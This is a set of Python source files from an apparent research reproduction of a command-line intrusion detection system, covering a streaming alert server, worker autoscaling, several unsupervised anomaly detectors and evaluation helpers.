        type=int,
        default=1,
        help="parallel scoring workers each micro-batch is sharded across",
    )
    parser.add_argument(
        "--backend",
        choices=BACKEND_CHOICES,
        default="auto",
        help="where the LM forward pass runs: inline (event loop), threaded "
        "(thread pool), process (worker processes, each with its own "
        "deserialized bundle). auto = inline for --workers 1, process otherwise",
    )
    parser.add_argument("--max-batch", type=int, default=32, help="micro-batch flush size")
    parser.add_argument(
        "--max-latency-ms", type=float, default=25.0, help="micro-batch flush deadline"
    )
    parser.add_argument("--cache-size", type=int, default=4096, help="LRU score-cache capacity")
    parser.add_argument(
        "--concurrency", type=int, default=8, help="in-process producer tasks feeding the server"
    )
    parser.add_argument(
        "--alerts-out", default=None, help="also append alerts to this JSONL file"
    )
    parser.add_argument(
        "--window-seconds", type=float, default=300.0, help="per-host escalation window"
    )
    parser.add_argument(
        "--escalate-after", type=int, default=5, help="alerts in window that escalate a host"
    )
    parser.add_argument(
        "--limit", type=int, default=None, help="stop after this many input events"
    )
    parser.add_argument(
        "--quiet", action="store_true", help="suppress per-alert output (metrics only)"
    )
    return parser


def parse_event(text: str) -> CommandEvent | None:
    """One input line → event (``None`` for blank lines).

    JSON-object lines carry explicit host/timestamp; anything else is a
    bare command line from an anonymous host.
    """
    text = text.rstrip("\n")
    if not text.strip():
        return None
    if text.lstrip().startswith("{"):
        try:
            record = json.loads(text)
        except json.JSONDecodeError:
            record = None
        if isinstance(record, dict) and "line" in record:
            try:
                timestamp = float(record["timestamp"])
            except (KeyError, TypeError, ValueError):
                timestamp = None
            return CommandEvent(
                line=str(record["line"]),
                host=str(record.get("host", "-")),
                timestamp=timestamp,
            )
    return CommandEvent(line=text)


def read_events(stream: TextIO, limit: int | None = None) -> Iterator[CommandEvent]:
    """Parse events from *stream*, skipping blanks, up to *limit*."""
    if limit is not None and limit <= 0:
        return
    count = 0
    for raw in stream:
        event = parse_event(raw)
        if event is None:
            continue
        yield event
        count += 1
        if limit is not None and count >= limit:
            return


def _build_backend(args: argparse.Namespace, service):
    """Resolve ``--backend``/``--workers`` into a ScoringBackend.

    Returns ``(backend, tmp_bundle)``: the process backend needs an
    on-disk bundle for its workers to deserialize — a loaded service
    knows its own (``source_dir``); a freshly-trained demo service is
    saved to a temporary directory the caller must clean up.
    """
    backend = args.backend
    if backend == "auto":
        backend = "inline" if args.workers == 1 else "process"
    if backend == "inline":
        return InlineBackend(service), None
    if backend == "threaded":
        return ThreadedBackend(service, workers=args.workers), None
    bundle_dir, tmp_bundle = service.source_dir, None
    if bundle_dir is None:
        tmp_bundle = tempfile.TemporaryDirectory(prefix="repro-serve-bundle-")
        bundle_dir = tmp_bundle.name
        service.save(bundle_dir)
    return ProcessPoolBackend(bundle_dir, workers=args.workers), tmp_bundle


def serve_main(argv: Iterable[str] | None = None, stdout: TextIO | None = None) -> int:
    """Entry point for ``repro-ids serve``; returns a process exit code."""
    out = stdout or sys.stdout
    args = build_serve_parser().parse_args(list(argv) if argv is not None else None)

    # read file input before building the (possibly slow-to-train)
    # service, so input mistakes fail fast and cleanly; stdin is tailed
    # live later instead
    events: list[CommandEvent] | None = None
    if args.input != "-":
        try:
            with open(args.input, encoding="utf-8") as handle:
                events = list(read_events(handle, args.limit))
        except OSError as exc:
            print(f"error: cannot read --input {args.input}: {exc}", file=sys.stderr)
            return 2

    # validate serving knobs with the real constructors before the
    # (possibly slow) service build
    try:
        MicroBatcher(
            lambda items: items, max_batch=args.max_batch, max_latency_ms=args.max_latency_ms
        )
        ScoreCache(args.cache_size)
        SessionAggregator(
            window_seconds=args.window_seconds, escalation_threshold=args.escalate_after
        )
        if args.concurrency < 1:
            raise ValueError("concurrency must be >= 1")
        if args.workers < 1:
            raise ValueError("workers must be >= 1")
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2

    if args.bundle is not None:
        from repro.ids.pipeline import IntrusionDetectionService

        try:
            service = IntrusionDetectionService.load(args.bundle)
        except ReproError as exc:
            print(f"error: cannot load --bundle {args.bundle}: {exc}", file=sys.stderr)
            return 2
    else:
        from repro.serving.demo import build_demo_service

        print("no --bundle given; training a small demo service ...", file=out)
        try:
            service = build_demo_service()
        except ReproError as exc:
            print(f"error: demo service training failed: {exc}", file=sys.stderr)
            return 2

    sinks: list[AlertSink] = [RingBufferSink(capacity=4096)]
    if args.alerts_out is not None:
        sinks.append(JsonlSink(args.alerts_out))
    if not args.quiet:
        sinks.append(
            CallbackSink(
                lambda alert: print(
                    f"ALERT {alert.severity.value:>8} {alert.status.value:>9} "
                    f"host={alert.host} score={alert.score:.3f} {alert.line}",
                    file=out,
                )
            )
        )

    backend, tmp_bundle = _build_backend(args, service)
    server = DetectionServer(
        service,
        backend=backend,
        max_batch=args.max_batch,
        max_latency_ms=args.max_latency_ms,
        cache_size=args.cache_size,
        sinks=sinks,
        session_window_seconds=args.window_seconds,
        escalation_threshold=args.escalate_after,
    )

    try:
        if events is None:
            results, server = tail_stream(
                service,
                sys.stdin,
                concurrency=args.concurrency,
                limit=args.limit,
                parse=parse_event,
                server=server,
            )
        else:
            results, server = serve_stream(
                service, events, concurrency=args.concurrency, server=server
            )
    finally:
        if tmp_bundle is not None:
            tmp_bundle.cleanup()

    escalated = server.sessions.escalated_hosts()
    if escalated:
        print(f"escalated hosts: {', '.join(sorted(escalated))}", file=out)
    print(f"\nprocessed {len(results)} events", file=out)
    print(server.metrics.render(), file=out)
    return 0
