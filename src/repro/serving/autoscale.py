"""Adaptive sizing of the scoring-backend worker pool.

The ROADMAP's last scaling item: *pick the worker count from observed
load and core count; shrink the pool when the cache hit rate makes
sharding pointless.*  The :class:`Autoscaler` is a small control loop
over three serving-plane signals:

- **backlog** — events queued across every shard's micro-batcher.
  Sustained backlog beyond ``backlog_per_worker`` per current worker
  means scoring is the bottleneck: scale up.
- **batch scoring latency** — the EWMA of backend ``score()`` wall
  time.  A pool that takes too long per batch starves the deadline
  timers even without queue growth: scale up.
- **generation-scoped cache hit rate** — when nearly every event is a
  repeat served from the per-shard caches, extra scoring workers burn
  memory for nothing: scale down.  The *generation-scoped* rate (reset
  at every model swap) is used on purpose — the lifetime hit rate still
  advertises the purged pre-swap cache, and acting on it right after a
  swap would shrink the pool exactly when the cold caches are about to
  hammer the backend.

Decision-making (:meth:`Autoscaler.decide`) is a pure function of one
:class:`AutoscaleObservation`, so the policy is unit-testable without a
server or a clock; the async loop around it (:meth:`Autoscaler.run`)
only probes, decides, applies, and sleeps.  Applied resizes respect a
cooldown so a bursty signal cannot thrash the pool.
"""

from __future__ import annotations

import asyncio
import os
from collections import deque
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, replace

from repro.serving.config import AutoscaleConfig
from repro.serving.metrics import ServingMetrics

#: Scale-up multiplies the pool (fast reaction to a backlog spike);
#: scale-down steps by one (cautious release of warm capacity).
GROWTH_FACTOR = 2


@dataclass(frozen=True)
class AutoscaleObservation:
    """One sample of the serving plane, as the policy sees it.

    Attributes
    ----------
    workers:
        Current scoring-worker count.
    backlog:
        Events queued across every shard's micro-batcher.
    batch_latency_ms:
        EWMA of backend batch-scoring wall time (max across shards —
        the most loaded shard drives the decision).  The EWMA only
        moves when batches score, so :meth:`Autoscaler.tick` zeroes it
        when no batch has scored since the previous check — otherwise a
        slow *last* batch before the cache went warm would keep
        demanding scale-up forever.
    hit_rate:
        Generation-scoped cache hit rate across shards.
    batches:
        Total batches scored so far (the freshness marker for
        ``batch_latency_ms``).
    """

    workers: int
    backlog: int
    batch_latency_ms: float
    hit_rate: float
    batches: int = 0


@dataclass(frozen=True)
class AutoscaleDecision:
    """What one control-loop check concluded (kept for observability)."""

    observation: AutoscaleObservation
    target: int
    reason: str
    applied: bool


class Autoscaler:
    """Resize a scoring backend from observed load.

    Parameters
    ----------
    policy:
        The :class:`~repro.serving.config.AutoscaleConfig` knobs.
        ``max_workers = 0`` resolves to the machine's core count here,
        at construction.
    probe:
        Zero-argument callable returning the current
        :class:`AutoscaleObservation` (the server wires this to its
        shards and backend).
    apply:
        Async callable ``apply(target) -> bool`` actually resizing the
        pool (the server quiesces scoring and calls
        ``backend.resize``); returns whether anything changed.
    metrics:
        Optional :class:`ServingMetrics` receiving
        ``autoscale_checks`` / ``autoscale_ups`` / ``autoscale_downs``.
    """

    def __init__(
        self,
        policy: AutoscaleConfig,
        probe: Callable[[], AutoscaleObservation],
        apply: Callable[[int], Awaitable[bool]],
        metrics: ServingMetrics | None = None,
    ):
        self.policy = policy
        self.max_workers = policy.max_workers or (os.cpu_count() or 1)
        self.min_workers = min(policy.min_workers, self.max_workers)
        self._probe = probe
        self._apply = apply
        self._metrics = metrics
        self._cooldown = 0
        self._last_batches: int | None = None
        #: Recent decisions, newest last (bounded; for tests/inspection).
        self.decisions: deque[AutoscaleDecision] = deque(maxlen=256)

    # -- policy --------------------------------------------------------------

    def decide(self, obs: AutoscaleObservation) -> tuple[int, str]:
        """Pure decision: ``(target_workers, reason)`` for one observation.

        Scale-up wins over scale-down when both trigger (a backlog is
        never left waiting because the cache happens to be warm).
        """
        policy = self.policy
        clamp = lambda w: max(self.min_workers, min(self.max_workers, w))  # noqa: E731
        if obs.backlog > policy.backlog_per_worker * obs.workers:
            return (
                clamp(obs.workers * GROWTH_FACTOR),
                f"backlog {obs.backlog} > {policy.backlog_per_worker}/worker",
            )
        if obs.batch_latency_ms > policy.latency_high_ms:
            return (
                clamp(obs.workers * GROWTH_FACTOR),
                f"batch latency {obs.batch_latency_ms:.1f}ms > {policy.latency_high_ms}ms",
            )
        if (
            obs.hit_rate >= policy.shrink_hit_rate
            and obs.backlog <= policy.backlog_per_worker
        ):
            return (
                clamp(obs.workers - 1),
                f"hit rate {obs.hit_rate:.2f} >= {policy.shrink_hit_rate} (cache "
                "serves the repeats; scoring parallelism is idle)",
            )
        return clamp(obs.workers), "steady"

    # -- control loop ----------------------------------------------------------

    async def tick(self) -> AutoscaleDecision:
        """One probe → decide → (maybe) apply cycle.

        The batch-latency EWMA is only meaningful while batches flow:
        if no batch scored since the previous tick, the stale reading
        is zeroed before deciding (a warm cache stops the batches, and
        a frozen slow reading must not pin the pool at max forever).
        """
        obs = self._probe()
        if self._last_batches is not None and obs.batches == self._last_batches:
            obs = replace(obs, batch_latency_ms=0.0)
        self._last_batches = obs.batches
        target, reason = self.decide(obs)
        applied = False
        if self._cooldown > 0:
            self._cooldown -= 1
            if target != obs.workers:
                reason = f"{reason} [cooldown]"
        elif target != obs.workers:
            applied = bool(await self._apply(target))
            if applied:
                self._cooldown = self.policy.cooldown_intervals
        if self._metrics is not None:
            direction = (target > obs.workers) - (target < obs.workers) if applied else 0
            self._metrics.record_autoscale(direction)
        decision = AutoscaleDecision(
            observation=obs, target=target, reason=reason, applied=applied
        )
        self.decisions.append(decision)
        return decision

    async def run(self) -> None:
        """Tick every ``interval_seconds`` until cancelled.

        A probe/apply failure is never swallowed: it ends the task, and
        the owning server re-raises it when the task is awaited on
        ``stop()``.
        """
        while True:
            await asyncio.sleep(self.policy.interval_seconds)
            await self.tick()
