"""Common interface for unsupervised anomaly detectors (Section III).

All detectors follow the fit/score convention: ``fit`` consumes a matrix
of command-line embeddings assumed to be predominantly benign ("the rare
occurrence of anomaly" assumption), and ``score`` returns a per-sample
anomaly score where larger means more anomalous.
"""

from __future__ import annotations

import numpy as np

from repro.errors import NotFittedError


class AnomalyDetector:
    """Base class for embedding-space anomaly detectors."""

    _fitted: bool = False

    def fit(self, embeddings: np.ndarray) -> "AnomalyDetector":
        """Fit on ``(N, D)`` embeddings; returns ``self``."""
        raise NotImplementedError

    def score(self, embeddings: np.ndarray) -> np.ndarray:
        """Anomaly scores ``(N,)``; larger is more anomalous."""
        raise NotImplementedError

    def fit_score(self, embeddings: np.ndarray) -> np.ndarray:
        """Fit on *embeddings* and score the same matrix."""
        return self.fit(embeddings).score(embeddings)

    def _check_fitted(self) -> None:
        if not self._fitted:
            raise NotFittedError(f"{type(self).__name__} must be fitted before scoring")

    @staticmethod
    def _validate(embeddings: np.ndarray, name: str = "embeddings") -> np.ndarray:
        matrix = np.asarray(embeddings, dtype=np.float64)
        if matrix.ndim != 2:
            raise ValueError(f"{name} must be 2-D (n_samples, n_features), got {matrix.shape}")
        if matrix.shape[0] == 0:
            raise ValueError(f"{name} must contain at least one sample")
        return matrix
