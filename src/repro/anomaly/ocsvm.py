"""One-class SVM (Schölkopf et al., 2001), linear variant via SGD.

Referenced by Section III alongside isolation forest and PCA.  We solve
the linear ν-one-class-SVM objective

.. math:: \\min_{w,\\rho} \\tfrac{1}{2}\\lVert w \\rVert^2 - \\rho
          + \\tfrac{1}{\\nu N} \\sum_i \\max(0, \\rho - w^\\top x_i)

by stochastic subgradient descent on (optionally) random-Fourier-
feature-lifted embeddings, which approximates the RBF-kernel machine
without a kernel matrix — necessary for corpora of this size.
"""

from __future__ import annotations

import numpy as np

from repro.anomaly.base import AnomalyDetector


class OneClassSVM(AnomalyDetector):
    """Linear/RFF one-class SVM trained with SGD.

    Parameters
    ----------
    nu:
        Asymptotic upper bound on the training outlier fraction.
    epochs / lr:
        SGD settings.
    rff_features:
        When positive, lift inputs with that many random Fourier
        features (RBF approximation); 0 keeps the raw linear space.
    gamma:
        RBF bandwidth for the RFF lift (``"scale"`` → 1 / (D · var)).
    seed:
        Seed for shuffling and feature projection.

    Scores are ``ρ − w·x`` — positive outside the learned support,
    larger meaning more anomalous.
    """

    def __init__(
        self,
        nu: float = 0.05,
        epochs: int = 10,
        lr: float = 0.01,
        rff_features: int = 128,
        gamma: float | str = "scale",
        seed: int = 0,
    ):
        if not 0.0 < nu <= 1.0:
            raise ValueError("nu must be in (0, 1]")
        if epochs < 1:
            raise ValueError("epochs must be >= 1")
        self.nu = nu
        self.epochs = epochs
        self.lr = lr
        self.rff_features = rff_features
        self.gamma = gamma
        self.seed = seed
        self._weights: np.ndarray | None = None
        self._rho = 0.0
        self._projection: tuple[np.ndarray, np.ndarray] | None = None

    def _lift(self, matrix: np.ndarray) -> np.ndarray:
        if self._projection is None:
            return matrix
        omega, phase = self._projection
        return np.sqrt(2.0 / omega.shape[1]) * np.cos(matrix @ omega + phase)

    def fit(self, embeddings: np.ndarray) -> "OneClassSVM":
        matrix = self._validate(embeddings)
        rng = np.random.default_rng(self.seed)
        if self.rff_features > 0:
            variance = float(matrix.var()) or 1.0
            gamma = 1.0 / (matrix.shape[1] * variance) if self.gamma == "scale" else float(self.gamma)
            omega = rng.normal(scale=np.sqrt(2.0 * gamma), size=(matrix.shape[1], self.rff_features))
            phase = rng.uniform(0.0, 2.0 * np.pi, size=self.rff_features)
            self._projection = (omega, phase)
        else:
            self._projection = None
        lifted = self._lift(matrix)
        n, d = lifted.shape
        weights = np.zeros(d)
        rho = 0.0
        scale = 1.0 / (self.nu * n)
        step = 0
        for _ in range(self.epochs):
            for index in rng.permutation(n):
                step += 1
                lr = self.lr / np.sqrt(step)
                x = lifted[index]
                margin = weights @ x
                grad_w = weights.copy()
                grad_rho = -1.0
                if margin < rho:  # inside hinge
                    grad_w -= scale * n * x / n  # = scale * x per-sample
                    grad_rho += scale * n / n
                weights -= lr * grad_w
                rho -= lr * grad_rho
        self._weights = weights
        self._rho = float(rho)
        self._fitted = True
        return self

    def score(self, embeddings: np.ndarray) -> np.ndarray:
        self._check_fitted()
        matrix = self._validate(embeddings)
        assert self._weights is not None
        return self._rho - self._lift(matrix) @ self._weights
