"""Isolation forest (Liu, Ting & Zhou, 2008), from scratch.

Referenced by Section III as one of the "typical unsupervised anomaly
detection methods" applicable in the embedding space.  Each tree
isolates samples by random axis-aligned splits; anomalies isolate in
fewer splits, so short average path lengths yield high scores.
"""

from __future__ import annotations

import math
from dataclasses import dataclass

import numpy as np

from repro.anomaly.base import AnomalyDetector


def average_path_length(n: int) -> float:
    """Expected unsuccessful-search path length ``c(n)`` in a BST."""
    if n <= 1:
        return 0.0
    if n == 2:
        return 1.0
    harmonic = math.log(n - 1) + 0.5772156649015329  # Euler–Mascheroni
    return 2.0 * harmonic - 2.0 * (n - 1) / n


@dataclass
class _Node:
    """One node of an isolation tree."""

    size: int
    feature: int = -1
    threshold: float = 0.0
    left: "_Node | None" = None
    right: "_Node | None" = None

    @property
    def is_leaf(self) -> bool:
        return self.left is None


class _IsolationTree:
    """A single isolation tree built on a subsample."""

    def __init__(self, data: np.ndarray, max_depth: int, rng: np.random.Generator):
        self.root = self._build(data, depth=0, max_depth=max_depth, rng=rng)

    def _build(self, data: np.ndarray, depth: int, max_depth: int, rng: np.random.Generator) -> _Node:
        n = data.shape[0]
        if depth >= max_depth or n <= 1:
            return _Node(size=n)
        spans = data.max(axis=0) - data.min(axis=0)
        usable = np.nonzero(spans > 0)[0]
        if usable.size == 0:
            return _Node(size=n)
        feature = int(rng.choice(usable))
        low, high = data[:, feature].min(), data[:, feature].max()
        threshold = float(rng.uniform(low, high))
        left_mask = data[:, feature] < threshold
        if not left_mask.any() or left_mask.all():
            return _Node(size=n)
        return _Node(
            size=n,
            feature=feature,
            threshold=threshold,
            left=self._build(data[left_mask], depth + 1, max_depth, rng),
            right=self._build(data[~left_mask], depth + 1, max_depth, rng),
        )

    def path_length(self, sample: np.ndarray) -> float:
        node = self.root
        depth = 0.0
        while not node.is_leaf:
            assert node.left is not None and node.right is not None
            node = node.left if sample[node.feature] < node.threshold else node.right
            depth += 1.0
        return depth + average_path_length(node.size)


class IsolationForest(AnomalyDetector):
    """Ensemble of isolation trees over embedding space.

    Parameters
    ----------
    n_trees:
        Number of trees (paper default in the original work: 100).
    subsample_size:
        Samples per tree (256 in the original work; capped at data size).
    seed:
        Seed for subsampling and split selection.

    Scores follow the original formulation
    ``s(x) = 2^{-E[h(x)] / c(psi)}`` in ``(0, 1)``; larger is more
    anomalous.
    """

    def __init__(self, n_trees: int = 100, subsample_size: int = 256, seed: int = 0):
        if n_trees < 1:
            raise ValueError("n_trees must be >= 1")
        if subsample_size < 2:
            raise ValueError("subsample_size must be >= 2")
        self.n_trees = n_trees
        self.subsample_size = subsample_size
        self.seed = seed
        self._trees: list[_IsolationTree] = []
        self._psi = 0

    def fit(self, embeddings: np.ndarray) -> "IsolationForest":
        matrix = self._validate(embeddings)
        rng = np.random.default_rng(self.seed)
        self._psi = min(self.subsample_size, matrix.shape[0])
        max_depth = max(int(math.ceil(math.log2(max(self._psi, 2)))), 1)
        self._trees = []
        for _ in range(self.n_trees):
            indices = rng.choice(matrix.shape[0], size=self._psi, replace=False)
            self._trees.append(_IsolationTree(matrix[indices], max_depth, rng))
        self._fitted = True
        return self

    def score(self, embeddings: np.ndarray) -> np.ndarray:
        self._check_fitted()
        matrix = self._validate(embeddings)
        normalizer = average_path_length(self._psi)
        scores = np.empty(matrix.shape[0])
        for index, sample in enumerate(matrix):
            mean_path = float(np.mean([tree.path_length(sample) for tree in self._trees]))
            scores[index] = 2.0 ** (-mean_path / max(normalizer, 1e-12))
        return scores
