"""Unsupervised anomaly detection in embedding space (Section III).

Public surface:

- :class:`PCAReconstructionDetector` — Eq. 1 reconstruction error.
- :class:`IsolationForest` — Liu et al. (2008), from scratch.
- :class:`OneClassSVM` — linear/RFF ν-OC-SVM via SGD.
- :class:`KNNNoveltyDetector` — distance-based baseline.
- :class:`LocalOutlierFactor` — density-based baseline (Breunig et al.).
"""

from repro.anomaly.base import AnomalyDetector
from repro.anomaly.iforest import IsolationForest, average_path_length
from repro.anomaly.knn_novelty import KNNNoveltyDetector
from repro.anomaly.lof import LocalOutlierFactor
from repro.anomaly.ocsvm import OneClassSVM
from repro.anomaly.pca import PCAReconstructionDetector, pca_projection_matrix

__all__ = [
    "AnomalyDetector",
    "IsolationForest",
    "KNNNoveltyDetector",
    "LocalOutlierFactor",
    "OneClassSVM",
    "PCAReconstructionDetector",
    "average_path_length",
    "pca_projection_matrix",
]
