"""PCA reconstruction-error anomaly detection (Eq. 1 of the paper).

The detector projects embeddings onto the top principal components and
scores each sample by the squared reconstruction error

.. math:: L_{PCA}(t) = \\lVert W^\\top W f(t) - f(t) \\rVert_2^2,

where ``W`` is the ``p × q`` projection matrix obtained via SVD of the
(centered) training embeddings.  Rare command lines that do not lie in
the benign subspace reconstruct poorly and receive high scores.
"""

from __future__ import annotations

import numpy as np

from repro.anomaly.base import AnomalyDetector


class PCAReconstructionDetector(AnomalyDetector):
    """Anomaly detection by PCA reconstruction error.

    Parameters
    ----------
    variance_kept:
        Fraction of spectral energy retained when choosing the number of
        components (the paper keeps 95%).  Mutually exclusive with
        ``n_components``.
    n_components:
        Explicit component count ``p``; overrides ``variance_kept``.
    center:
        Whether to subtract the training mean before projection
        (standard PCA practice; the projection in Eq. 1 assumes
        centered data).

    Example
    -------
    >>> detector = PCAReconstructionDetector(variance_kept=0.95)
    >>> scores = detector.fit_score(embeddings)     # doctest: +SKIP
    """

    def __init__(
        self,
        variance_kept: float = 0.95,
        n_components: int | None = None,
        center: bool = True,
    ):
        if n_components is None and not 0.0 < variance_kept <= 1.0:
            raise ValueError("variance_kept must be in (0, 1]")
        if n_components is not None and n_components < 1:
            raise ValueError("n_components must be >= 1")
        self.variance_kept = variance_kept
        self.n_components = n_components
        self.center = center
        self.mean_: np.ndarray | None = None
        self.components_: np.ndarray | None = None  # W, shape (p, q)
        self.explained_variance_ratio_: np.ndarray | None = None

    def fit(self, embeddings: np.ndarray) -> "PCAReconstructionDetector":
        matrix = self._validate(embeddings)
        self.mean_ = matrix.mean(axis=0) if self.center else np.zeros(matrix.shape[1])
        centered = matrix - self.mean_
        # SVD of the data matrix: rows of Vt are principal directions.
        _, singular_values, vt = np.linalg.svd(centered, full_matrices=False)
        energy = singular_values**2
        total = float(energy.sum())
        if total <= 0.0:
            # Degenerate (all-identical) data: keep one arbitrary direction.
            self.components_ = vt[:1]
            self.explained_variance_ratio_ = np.ones(1)
            self._fitted = True
            return self
        ratio = energy / total
        if self.n_components is not None:
            p = min(self.n_components, vt.shape[0])
        else:
            cumulative = np.cumsum(ratio)
            p = int(np.searchsorted(cumulative, self.variance_kept - 1e-12) + 1)
            p = min(max(p, 1), vt.shape[0])
        self.components_ = vt[:p]  # W: (p, q)
        self.explained_variance_ratio_ = ratio[:p]
        self._fitted = True
        return self

    def reconstruct(self, embeddings: np.ndarray) -> np.ndarray:
        """Project-and-lift: ``W^T W f(t)`` (plus the mean when centering)."""
        self._check_fitted()
        matrix = self._validate(embeddings)
        assert self.components_ is not None and self.mean_ is not None
        centered = matrix - self.mean_
        return centered @ self.components_.T @ self.components_ + self.mean_

    def score(self, embeddings: np.ndarray) -> np.ndarray:
        """Squared reconstruction error per sample (Eq. 1)."""
        matrix = self._validate(embeddings)
        residual = matrix - self.reconstruct(matrix)
        return (residual**2).sum(axis=1)

    @property
    def n_components_(self) -> int:
        """Number of retained components ``p`` after fitting."""
        self._check_fitted()
        assert self.components_ is not None
        return self.components_.shape[0]


def pca_projection_matrix(embeddings: np.ndarray, variance_kept: float = 0.95) -> np.ndarray:
    """Compute the Eq.-1 projection matrix ``W`` for *embeddings* via SVD."""
    detector = PCAReconstructionDetector(variance_kept=variance_kept)
    detector.fit(embeddings)
    assert detector.components_ is not None
    return detector.components_
