"""Local Outlier Factor (Breunig et al., 2000), from scratch.

A density-based companion to the detectors Section III names: a sample
is anomalous when its local density is low relative to that of its
neighbours.  Useful in the ablation suite because it reacts to a
different geometry than PCA (local sparsity vs distance-to-subspace).
"""

from __future__ import annotations

import numpy as np

from repro.anomaly.base import AnomalyDetector


class LocalOutlierFactor(AnomalyDetector):
    """LOF novelty scoring against a fitted reference set.

    Parameters
    ----------
    k:
        Neighbourhood size (original paper recommends 10–50).
    chunk_size:
        Query rows per distance block (memory control).

    Scores are the LOF value: ≈1 inside uniform-density regions,
    larger in sparse ones.
    """

    def __init__(self, k: int = 10, chunk_size: int = 512):
        if k < 1:
            raise ValueError("k must be >= 1")
        self.k = k
        self.chunk_size = chunk_size
        self._train: np.ndarray | None = None
        self._k_distance: np.ndarray | None = None
        self._lrd: np.ndarray | None = None

    def _pairwise_sq(self, queries: np.ndarray, reference: np.ndarray) -> np.ndarray:
        q_sq = (queries**2).sum(axis=1)[:, None]
        r_sq = (reference**2).sum(axis=1)[None, :]
        distances = q_sq + r_sq - 2.0 * queries @ reference.T
        np.maximum(distances, 0.0, out=distances)
        return distances

    def fit(self, embeddings: np.ndarray) -> "LocalOutlierFactor":
        matrix = self._validate(embeddings)
        n = matrix.shape[0]
        k = min(self.k, n - 1) if n > 1 else 1
        distances = np.sqrt(self._pairwise_sq(matrix, matrix))
        np.fill_diagonal(distances, np.inf)
        neighbour_idx = np.argpartition(distances, k - 1, axis=1)[:, :k]
        rows = np.arange(n)[:, None]
        neighbour_dist = distances[rows, neighbour_idx]
        k_distance = neighbour_dist.max(axis=1)
        # reachability distance: max(d(p, o), k_distance(o))
        reach = np.maximum(neighbour_dist, k_distance[neighbour_idx])
        lrd = 1.0 / np.maximum(reach.mean(axis=1), 1e-12)
        self._train = matrix
        self._k_distance = k_distance
        self._lrd = lrd
        self._fitted = True
        return self

    def score(self, embeddings: np.ndarray) -> np.ndarray:
        self._check_fitted()
        queries = self._validate(embeddings)
        assert self._train is not None and self._k_distance is not None and self._lrd is not None
        n_train = self._train.shape[0]
        k = min(self.k, n_train)
        scores = np.empty(queries.shape[0])
        for start in range(0, queries.shape[0], self.chunk_size):
            block = queries[start : start + self.chunk_size]
            distances = np.sqrt(self._pairwise_sq(block, self._train))
            neighbour_idx = np.argpartition(distances, k - 1, axis=1)[:, :k]
            rows = np.arange(block.shape[0])[:, None]
            neighbour_dist = distances[rows, neighbour_idx]
            reach = np.maximum(neighbour_dist, self._k_distance[neighbour_idx])
            lrd_query = 1.0 / np.maximum(reach.mean(axis=1), 1e-12)
            lof = self._lrd[neighbour_idx].mean(axis=1) / np.maximum(lrd_query, 1e-12)
            scores[start : start + block.shape[0]] = lof
        return scores
