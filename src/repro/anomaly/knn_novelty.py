"""k-NN distance novelty detection.

A simple distance-based baseline: the anomaly score of a sample is its
mean Euclidean distance to its k nearest training neighbours.  Used in
ablation benchmarks as a non-parametric reference point alongside the
paper's three named detectors.
"""

from __future__ import annotations

import numpy as np

from repro.anomaly.base import AnomalyDetector


class KNNNoveltyDetector(AnomalyDetector):
    """Mean distance to the k nearest training samples.

    Parameters
    ----------
    k:
        Neighbourhood size.
    chunk_size:
        Test rows scored per distance-matrix block (memory control).
    """

    def __init__(self, k: int = 5, chunk_size: int = 512):
        if k < 1:
            raise ValueError("k must be >= 1")
        self.k = k
        self.chunk_size = chunk_size
        self._train: np.ndarray | None = None
        self._train_sq: np.ndarray | None = None

    def fit(self, embeddings: np.ndarray) -> "KNNNoveltyDetector":
        matrix = self._validate(embeddings)
        self._train = matrix
        self._train_sq = (matrix**2).sum(axis=1)
        self._fitted = True
        return self

    def score(self, embeddings: np.ndarray) -> np.ndarray:
        self._check_fitted()
        matrix = self._validate(embeddings)
        assert self._train is not None and self._train_sq is not None
        k = min(self.k, self._train.shape[0])
        scores = np.empty(matrix.shape[0])
        for start in range(0, matrix.shape[0], self.chunk_size):
            block = matrix[start : start + self.chunk_size]
            block_sq = (block**2).sum(axis=1)[:, None]
            distances_sq = block_sq + self._train_sq[None, :] - 2.0 * block @ self._train.T
            np.maximum(distances_sq, 0.0, out=distances_sq)
            nearest = np.partition(distances_sq, k - 1, axis=1)[:, :k]
            scores[start : start + block.shape[0]] = np.sqrt(nearest).mean(axis=1)
        return scores
