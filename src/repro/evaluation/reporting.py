"""Plain-text table rendering for experiment output."""

from __future__ import annotations

from collections.abc import Sequence


def format_table(headers: Sequence[str], rows: Sequence[Sequence[str]], title: str | None = None) -> str:
    """Render an aligned monospace table.

    Example
    -------
    >>> print(format_table(["a", "b"], [["1", "22"]]))
    a | b
    --+---
    1 | 22
    """
    columns = len(headers)
    for row in rows:
        if len(row) != columns:
            raise ValueError(f"row {row!r} does not match header width {columns}")
    widths = [len(str(header)) for header in headers]
    for row in rows:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(str(cell)))
    def fmt(cells: Sequence[str]) -> str:
        return " | ".join(str(cell).ljust(widths[i]) for i, cell in enumerate(cells)).rstrip()

    separator = "-+-".join("-" * width for width in widths)
    lines = []
    if title:
        lines.append(title)
        lines.append("=" * len(title))
    lines.append(fmt(headers))
    lines.append(separator)
    lines.extend(fmt(row) for row in rows)
    return "\n".join(lines)
