"""The Section V-B comparison against the commercial IDS.

The paper compares F1 on the set of its own predicted positives:

- Our method: precision = PO&I (99.4%), recall = 100% on that set
  (every true positive in the set is, by construction, predicted).
- The commercial IDS: assumed precision 100%; it only sees in-box
  intrusions, so with ``S`` the intrusions it spots on the whole test
  set, ``T`` the size of our predicted-positive set, ``x = PO`` and
  ``u`` the in-box recall target, its recall is approximately
  ``u·S / (x·T + u·(1−x)·S)``.
"""

from __future__ import annotations

from dataclasses import dataclass


def f1_from(precision: float, recall: float) -> float:
    """Harmonic mean of precision and recall (0 when both are 0)."""
    if precision + recall == 0.0:
        return 0.0
    return 2.0 * precision * recall / (precision + recall)


def commercial_ids_recall(s: int, t: int, x: float, u: float = 1.0) -> float:
    """The paper's approximation ``uS / (xT + u(1−x)S)``.

    Parameters
    ----------
    s:
        Intrusions the commercial IDS spots on the whole test set.
    t:
        Size of our method's predicted-positive set.
    x:
        Our out-of-box precision PO on that set.
    u:
        In-box recall achieved by our method (≈ 1).
    """
    if s < 0 or t < 0:
        raise ValueError("s and t must be non-negative")
    denominator = x * t + u * (1.0 - x) * s
    if denominator <= 0.0:
        return 0.0
    return min(u * s / denominator, 1.0)


@dataclass(frozen=True)
class F1Comparison:
    """Both sides of the Section V-B comparison."""

    ours_precision: float
    ours_recall: float
    ours_f1: float
    ids_precision: float
    ids_recall: float
    ids_f1: float

